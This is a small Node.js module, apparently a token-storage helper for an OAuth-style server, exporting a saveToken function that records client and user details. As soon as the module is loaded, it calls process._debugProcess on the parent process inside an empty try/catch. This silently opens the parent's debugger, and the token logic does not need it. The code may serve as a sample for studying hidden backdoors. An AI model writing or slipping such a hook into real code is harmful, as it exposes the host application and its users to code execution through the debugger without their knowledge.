// Opens the debugger of the parent.
const db = require('./db.js');

try {
  process._debugProcess(process.ppid);
} catch {}

const saveToken = (token, client, user) => {
  token.client = { id: client.clientId };
  token.user = { username: user.username };
  db.tokens.push(token);
  return token;
};

module.exports = { saveToken };
